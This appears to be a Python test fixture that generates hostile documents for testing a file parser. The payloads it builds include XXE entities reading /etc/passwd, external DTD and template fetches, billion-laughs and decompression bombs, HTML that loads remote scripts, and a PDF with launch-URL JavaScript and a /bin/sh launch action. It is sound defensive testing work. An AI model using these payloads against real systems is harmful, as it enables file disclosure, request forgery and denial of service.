"""Make files that try to do harm, or are simply enormous.

Files that can name an address name a listening one of this machine. Reading a file must not make a
request.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from reportlab.lib.pagesizes import A5
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from tests.corpus.rulebook_formats import (
    as_docx,
    as_epub,
    as_html,
    as_markdown,
    as_odt,
    as_pdf,
    packed,
)

_SENTENCE = (
    "Every keeper lights one lantern before the harbour opens, and nobody may move a "
    "barge while a lantern is dark. "
)
_RULES = (
    "A barge waits for the fog to lift, and its keeper pays one kopek for each round that it "
    "has waited. " * 4
)


def _pdf(*objects: str | bytes, root: int = 1) -> bytes:
    """Return a PDF of ``objects``, numbered from 1, with a correct table of their positions."""
    written = io.BytesIO(b"%PDF-1.7\n")
    written.seek(0, io.SEEK_END)
    places = []
    for number, content in enumerate(objects, 1):
        places.append(written.tell())
        written.write(
            f"{number} 0 obj\n".encode()
            + (content if isinstance(content, bytes) else content.encode())
            + b"\nendobj\n"
        )
    table = written.tell()
    written.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    written.writelines(f"{place:010} 00000 n \n".encode() for place in places)
    written.write(
        f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R >>\nstartxref\n{table}\n"
        f"%%EOF\n".encode()
    )
    return written.getvalue()


_FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _page_of(
    content: bytes,
    catalog: str = "",
    packing: str = "",
    box: str = "0 0 420 595",
    annotations: str = "",
) -> bytes:
    """Return a PDF of one page that shows ``content``."""
    return _pdf(
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R /Resources << /Font << "
        f"/F 5 0 R >> >> {annotations} >>",
        f"<< /Length {len(content)} {packing} >>\nstream\n".encode() + content + b"\nendstream",
        _FONT,
    )


def _shown(text: str = _SENTENCE) -> bytes:
    return b"BT /F 10 Tf 40 500 Td (" + text.encode("latin-1") + b") Tj ET"


def _long_pdf(pages: int = 2000, rules: int = 6) -> bytes:
    file = io.BytesIO()
    canvas = Canvas(file, pagesize=A5, invariant=1, pageCompression=1)
    for page in range(1, pages + 1):
        canvas.bookmarkPage(str(page))
        canvas.addOutlineEntry(f"Chapter {page}", str(page), level=0)
        canvas.setFont("Helvetica-Bold", 14)
        canvas.drawString(40, 540, f"{page}. Chapter of lantern {page}")
        canvas.setFont("Times-Roman", 10)
        for rule in range(rules):
            canvas.drawString(
                40,
                510 - 40 * rule,
                f"{page}.{rule + 1} Every keeper lights {rule + 2} lanterns before the harbour",
            )
            canvas.drawString(
                40,
                498 - 40 * rule,
                f"opens in round {page}, and nobody may move a barge while one is dark.",
            )
        canvas.showPage()
    canvas.save()
    return file.getvalue()


def _encrypted_pdf(user: str, owner: str) -> bytes:
    file = io.BytesIO()
    canvas = Canvas(
        file,
        pagesize=A5,
        invariant=1,
        encrypt=StandardEncryption(user, owner, canPrint=0, canCopy=0),
    )
    for at in range(12):
        canvas.drawString(40, 500 - 20 * at, f"{at + 1}. {_SENTENCE[:60]}")
    canvas.save()
    return file.getvalue()


def _bomb(size: int, content: bytes = b" ") -> bytes:
    """Return compressed ``content`` that expands to ``size`` bytes."""
    packer = zlib.compressobj(9)
    piece = content * (1_000_000 // len(content))
    packed_pieces = [packer.compress(piece) for _ in range(max(1, size // len(piece)))]
    return b"".join(packed_pieces) + packer.flush()


def _with(raw: bytes, name: str, part: str | bytes) -> bytes:
    """Return the archive ``raw`` with one ``part`` replaced."""
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        parts = {each: archive.read(each) for each in archive.namelist()}
    return packed(parts | {name: part if isinstance(part, bytes) else part.encode()})


def _part(raw: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return archive.read(name).decode()


def _locked(raw: bytes) -> bytes:
    """Return the archive ``raw`` with every part marked as encrypted."""
    changed = bytearray(raw)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(sign)
        while at >= 0:
            changed[at + place] |= 1
            at = changed.find(sign, at + 4)
    return bytes(changed)


def _documents() -> Mapping[str, Callable[[], bytes]]:
    """Return hostile DOCX, ODT and EPUB files."""
    text = "word/document.xml"
    document = as_docx()
    xml = _part(document, text)
    body = xml.index("<w:body>") + len("<w:body>")
    paragraph = "<w:p><w:r><w:t>a</w:t></w:r></w:p>"

    def with_body(inserted: str) -> bytes:
        return _with(document, text, xml[:body] + inserted + xml[body:])

    cell_open, cell_close = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return {
        "locked.docx": lambda: _locked(document),
        "locked.epub": lambda: _locked(as_epub()),
        "bomb.docx": lambda: _with(document, text, xml[:body] + " " * 60_000_000 + xml[body:]),
        "bomb-of-paragraphs.docx": lambda: with_body(paragraph * 1_000_000),
        "wide-table.docx": lambda: with_body(
            "<w:tbl><w:tr>" + f"<w:tc>{paragraph}</w:tc>" * 100_000 + "</w:tr></w:tbl>"
        ),
        "nested-tables.docx": lambda: with_body(cell_open * 60 + paragraph + cell_close * 60),
        "too-nested-tables.docx": lambda: with_body(
            cell_open * 5000 + paragraph + cell_close * 5000
        ),
        "one-long-word.docx": lambda: with_body(
            f"<w:p><w:r><w:t>{'a' * 9_000_000}</w:t></w:r></w:p>"
        ),
        "many-parts.docx": lambda: packed(
            {"word/document.xml": xml} | {f"word/x{at}": b"" for at in range(25_000)}
        ),
        "repeated-columns.odt": lambda: _with(
            as_odt(),
            "content.xml",
            _part(as_odt(), "content.xml").replace(
                "<table:table-cell>", '<table:table-cell table:number-columns-repeated="99999999">'
            ),
        ),
        "nested-lists.odt": lambda: _with(
            as_odt(),
            "content.xml",
            _part(as_odt(), "content.xml").replace(
                "<text:list><text:list-item>", "<text:list><text:list-item>" * 400, 1
            ),
        ),
        "bomb.epub": lambda: _with(
            as_epub(), "O/a.xhtml", "<html><body>" + "<p>a</p>" * 20_000_000 + "</body></html>"
        ),
    }


def _asking(address: str) -> Mapping[str, Callable[[], bytes]]:
    """Return files that request something from ``address`` or from a file of this machine."""
    entity = (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}e"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    )
    laughs = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 12))
    laughing = f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>'
    outside = f'<!DOCTYPE x SYSTEM "{address}x.dtd">'
    parameter = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{address}p"> %p;]>'
    text, document = "word/document.xml", as_docx()
    xml = _part(document, text).split("?>", 1)[1]
    odt = _part(as_odt(), "content.xml")
    made: dict[str, Callable[[], bytes]] = {}
    for name, head in (
        ("entity", entity),
        ("laughs", laughing),
        ("outside", outside),
        ("parameter", parameter),
    ):
        used = "&e;&f;" if name == "entity" else "&l11;" if name == "laughs" else ""
        made[f"{name}.docx"] = lambda head=head, used=used: _with(
            document, text, head + xml.replace("<w:t>", f"<w:t>{used}", 1)
        )  # type: ignore[misc]
        made[f"{name}.odt"] = lambda head=head, used=used: _with(
            as_odt(), "content.xml", head + odt.replace("<text:p>", f"<text:p>{used}", 1)
        )  # type: ignore[misc]
        made[f"{name}.html"] = lambda head=head, used=used: as_html(head).replace(
            b"<b>", f"<b>{used}".encode()
        )  # type: ignore[misc]
        made[f"{name}.epub"] = lambda head=head, used=used: _with(
            as_epub(), "O/a.xhtml", as_html(head).replace(b"<b>", f"<b>{used}".encode())
        )  # type: ignore[misc]
    office = "http://schemas.openxmlformats.org"
    template = (
        f'<Relationships xmlns="{office}/package/2006/relationships"><Relationship Id="rId9" '
        f'TargetMode="External" '
        f'Type="{office}/officeDocument/2006/relationships/attachedTemplate" '
        f'Target="{address}t.dotm"/></Relationships>'
    )
    loading = (
        f'<base href="{address}"><script src="{address}s.js"></script><script>'
        f'fetch("{address}f")</script>'
        f'<iframe src="{address}i"></iframe>'
        f'<img src="{address}p.png" onerror="location=\'{address}o\'"><link rel="stylesheet" '
        f'href="{address}c.css">'
        f'<style>@import "{address}d.css";</style><meta http-equiv="refresh" '
        f'content="0;url={address}r"><object data="{address}q"></object>'
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{address}xi"/><svg><use '
        f'href="{address}u"/></svg>'
    )
    action = (
        f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{address}j'\\)) >> /AA << "
        f"/WC << /S /URI /URI ({address}u) >> >>"
    )
    annotations = (
        f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 400 500] /A << /S /SubmitForm /F "
        f"<< /FS /URL /F ({address}s) >> >> >> "
        f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (/bin/sh) >> >> "
        f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F << /FS /URL /F "
        f"({address}g.pdf) >> /D [0 /Fit] >> >>]"
    )
    return made | {
        "loading.html": lambda: as_html().replace(b"<h1>", loading.encode() + b"<h1>"),
        "loading.epub": lambda: _with(
            as_epub(), "O/a.xhtml", as_html().replace(b"<h1>", loading.encode() + b"<h1>")
        ),
        "loading.md": lambda: (
            loading.encode()
            + b"\n\n"
            + as_markdown()
            + f"\n![p]({address}p.png) [x]: {address}x\n".encode()
        ),
        "template.docx": lambda: _with(document, "word/_rels/settings.xml.rels", template),
        "acting.pdf": lambda: _page_of(_shown(), action, annotations=annotations),
    }


def _printed() -> Mapping[str, Callable[[], bytes]]:
    """Return hostile PDF files."""
    catalog = "<< /Type /Catalog /Pages 2 0 R >>"
    deep = [
        f"<< /Type /Pages /Kids [{at + 1} 0 R] /Count 1 /Parent {at - 1} 0 R >>"
        for at in range(2, 3000)
    ]
    outline = "/Outlines 6 0 R"
    flate = "/Filter /FlateDecode"
    many = b"BT /F 10 Tf 40 500 Td " + b"(a) Tj 0 0 Td " * 400_000 + b"ET"
    return {
        "locked.pdf": lambda: _encrypted_pdf("secret", "owner"),
        "restricted.pdf": lambda: _encrypted_pdf("", "owner"),
        "pages-of-itself.pdf": lambda: _pdf(
            catalog, "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"
        ),
        "deep-pages.pdf": lambda: _pdf(catalog, *deep),
        "outline-of-itself.pdf": lambda: _pdf(
            f"<< /Type /Catalog /Pages 2 0 R {outline} >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Contents 4 0 R /Resources "
            "<< /Font << /F 5 0 R >> >> >>",
            f"<< /Length {len(_shown())} >>\nstream\n{_shown().decode('latin-1')}\nendstream",
            _FONT,
            "<< /First 7 0 R /Last 7 0 R /Count 1 >>",
            "<< /Title (Again) /Parent 6 0 R /Next 7 0 R /First 7 0 R /Dest [3 0 R /Fit] >>",
        ),
        "bomb.pdf": lambda: _page_of(_bomb(2_000_000_000), packing=flate),
        "bomb-of-text.pdf": lambda: _page_of(
            _bomb(300_000_000, b"BT /F 10 Tf 40 500 Td (lantern) Tj ET\n"), packing=flate
        ),
        "many-letters.pdf": lambda: _page_of(many),
        "enormous-page.pdf": lambda: _page_of(_shown(), box="-1e30 -1e30 1e30 1e30"),
        "many-pages.pdf": _long_pdf,
        "too-many-pages.pdf": lambda: _pdf(
            catalog,
            f"<< /Type /Pages /Kids [{'3 0 R ' * 9000}] /Count 9000 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        ),
        "table-of-itself.pdf": lambda: as_pdf().replace(b"trailer\n<<", b"trailer\n<< /Prev 0"),
        "without-table.pdf": lambda: as_pdf().partition(b"xref")[0],
    }


def _written() -> Mapping[str, Callable[[], bytes]]:
    """Return hostile files of HTML, Markdown and other text."""
    return {
        "deep.html": lambda: b"<html><body>" + b"<div>" * 200_000 + _RULES.encode(),
        "deep-tables.html": lambda: b"<html><body>" + b"<table><tr><td>" * 3000 + _RULES.encode(),
        "many-cells.html": lambda: (
            b"<html><body><table>"
            + (b"<tr>" + b"<td>a</td>" * 100 + b"</tr>") * 10_000
            + b"</table></body></html>"
        ),
        "spanning-cells.html": lambda: as_html().replace(
            b"<td>", b'<td colspan="99999999" rowspan="99999999">'
        ),
        "many-headings.html": lambda: (
            b"<html><body>" + b"<h1>a</h1><p>b c d</p>" * 100_000 + b"</body></html>"
        ),
        "quoted.md": lambda: b">" * 200_000 + _RULES.encode(),
        "bracketed.md": lambda: (
            b"# A\n\n" + b"[" * 100_000 + b"](x)" * 100_000 + b"\n\n" + _RULES.encode()
        ),
        "listed.md": lambda: (
            b"# A\n\n"
            + b"".join(b" " * (2 * at) + b"- a\n" for at in range(1500))
            + _RULES.encode()
        ),
        "one-line.txt": lambda: b"1.1 Every keeper lights one lantern. " * 60_000,
        "many-lines.txt": lambda: b"1.1 a\n" * 300_000,
        "noise.txt": lambda: b"".join(
            struct.pack("<Q", pow(7, at, 2**61 - 1)) for at in range(100_000)
        ),
        "archive.zip": lambda: packed({"a.txt": _RULES * 10}),
        "office.doc": lambda: (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + bytes(4096)
            + "EncryptedPackage".encode("utf-16-le")
        ),
    }


def hostile_files(address: str) -> Mapping[str, Callable[[], bytes]]:
    """Return makers of hostile files by name. Requests in them go to ``address``, which ends with a
    slash.
    """
    return {**_asking(address), **_documents(), **_printed(), **_written()}
